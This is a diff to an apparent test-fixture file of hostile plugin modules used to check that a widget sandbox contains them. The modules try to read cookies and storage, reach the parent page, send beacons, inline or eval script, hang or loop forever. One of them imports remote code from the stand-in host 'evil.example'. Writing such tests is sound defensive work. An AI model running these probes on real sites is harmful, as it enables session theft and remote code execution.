@@ -133,8 +133,8 @@ export const evil = {
 export const widgets = { reaches: { async mount(root) {
   const attempts = {
     cookie: () => document.cookie || 'none', set: () => { document.cookie = 'a=1'; return document.cookie || 'none'; }, parent: () => parent.document.title, top: () => top.document.title, storage: () => localStorage.length, session: () => sessionStorage.length,
-    fetch: () => fetch('/api/v1/plugins').then(({ status }) => status), beacon: () => (navigator.sendBeacon('/session', 'x') ? 'sent' : Promise.reject(new Error('no'))), socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + location.host + '/'); socket.onopen = resolve; socket.onerror = reject; }),
-    elsewhere: () => import('https://evil.example/x.js'), data: () => import('data:text/javascript,export default 1'), shell: () => import('/' + document.querySelector('link').href.split('/').at(-2) + '/api.js'), markup: () => { const script = document.createElement('script'); script.textContent = 'globalThis.ran = 1'; document.body.append(script); if (!globalThis.ran) throw new Error('no'); return 'ran'; },
+    fetch: () => fetch('/api/v1/plugins').then(({ status }) => status), beacon: () => { navigator.sendBeacon('/session', 'x'); return 'none'; }, socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + location.host + '/'); socket.onopen = resolve; socket.onerror = reject; }),
+    elsewhere: () => import('https://evil.example/x.js'), data: () => import('data:text/javascript,export default 1'), shell: () => import('/' + document.querySelector('link').href.split('/').at(-2) + '/api.js'), markup: () => { const script = document.createElement('script'); script.textContent = 'globalThis.inlined = 1'; document.body.append(script); if (!globalThis.inlined) throw new Error('no'); return 'ran'; },
     evaluate: () => new Function('return 1')(), frame: () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = '/'; frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } }; document.body.append(frame); setTimeout(() => reject(new Error('no')), 300); }),
     navigate: () => { top.location = 'about:blank'; throw new Error('no'); }, popup: () => { if (!open('about:blank')) throw new Error('no'); return 'opened'; },
   };
@@ -148,7 +148,8 @@ export const widgets = { reaches: { async mount(root) {
   'later.js': "export const widgets = { later: { mount(root) { root.textContent = 'stands'; setTimeout(() => { throw new Error('later it breaks'); }, 50); } } };",
   'lacks.js': 'export const widgets = {};',
   'hangs.js': 'export const widgets = { hangs: { mount: () => new Promise(() => {}) } };',
-  'loops.js': 'export const widgets = { loops: { mount() { for (;;); } } };',
   'floods.js': "export const widgets = { floods: { async mount(root, ctx) { for (let times = 0; times < 100000; times += 1) ctx.say('<b>x</b>'); } } };",
 };
+/** It holds up all frames of plugins, for browsers give them one process; but not the page. */
+export const looping = 'export const widgets = { loops: { mount() { for (;;); } } };';
 export const evilParts = `widgets = [${Object.keys(evil).map((file) => file.replace('.js', '')).map((id) => `{ id = "${id}", title = "Evil ${id}", module = "${id}.js" }`).join(', ')}]`;
